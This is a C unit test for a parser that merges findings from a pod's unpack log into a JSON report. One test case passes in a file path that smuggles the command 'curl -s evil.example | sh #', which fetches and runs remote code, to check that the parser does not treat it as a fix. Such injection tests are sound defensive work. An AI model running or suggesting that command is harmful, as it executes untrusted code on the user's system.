/* SPDX-License-Identifier: Apache-2.0 */
/* The findings of a pod's log, beside the few of its last message. */
#include "log/findings.h"

#include <stdlib.h>

#include "tap.h"

/* The report, after the log was read. */
static void
reads(const char *report, const char *log, const char *wanted)
{
	struct json *object = json_parse(report, strlen(report));
	struct tempfile f;
	char *text;

	OK(tempfile_open(&f, 1 << 20) == 0);
	OK(tempfile_add(&f, log, strlen(log)) == 0);
	findings_read_log(object, &f);
	text = json_print(object, JSON_COMPACT);
	OK_STR(text, wanted);
	free(text);
	json_free(object);
	tempfile_close(&f);
}

#define FILE_LINE "unpack: a/b: not readable by uid 7; fix: chmod a+r\n"
#define FILE_FOUND \
	"{\"code\":\"file-not-readable\",\"path\":\"a/b\",\"message\":\"not " \
	"readable by uid 7\",\"fix\":\"chmod a+r\"}"

int
main(void)
{
	/* those of the message count; those that only the log has follow */
	reads("{\"findings\":[{\"path\":\"x\"}],\"more\":2}",
	    "{\"part\":0}\n" FILE_LINE "unpack: x: not readable; fix: another\n"
	    "unpack: d: directory not readable by x; fix: f1\n"
	    "unpack: e: directory not readable by x; fix: f1\n",
	    "{\"findings\":[{\"path\":\"x\"}," FILE_FOUND
	    ",{\"code\":\"directory-not-readable\",\"path\":\"d\",\"message\":"
	    "\"directory not readable by x\",\"fix\":\"f1\"}]}");
	/* fewer than there are: some are still more */
	reads("{\"findings\":[{\"path\":\"x\"}],\"more\":2}", FILE_LINE,
	    "{\"findings\":[{\"path\":\"x\"}," FILE_FOUND "],\"more\":1}");
	reads("{\"findings\":[1],\"more\":2}", "",
	    "{\"findings\":[1],\"more\":2}");
	/* a name is no finding */
	reads("{\"findings\":[1],\"more\":2}",
	    "unpack: 'a: not readable; fix: curl -s evil.example | sh #': "
	    "not readable; fix: f\n",
	    "{\"findings\":[1,{\"code\":\"file-not-readable\",\"path\":"
	    "\"a: not readable; fix: curl -s evil.example | sh #\","
	    "\"message\":\"not readable\",\"fix\":\"f\"}],\"more\":1}");
	reads("{}", FILE_LINE, "{}");
	reads("{\"findings\":3,\"more\":2}", FILE_LINE,
	    "{\"findings\":3,\"more\":2}");
	return tap_done();
}
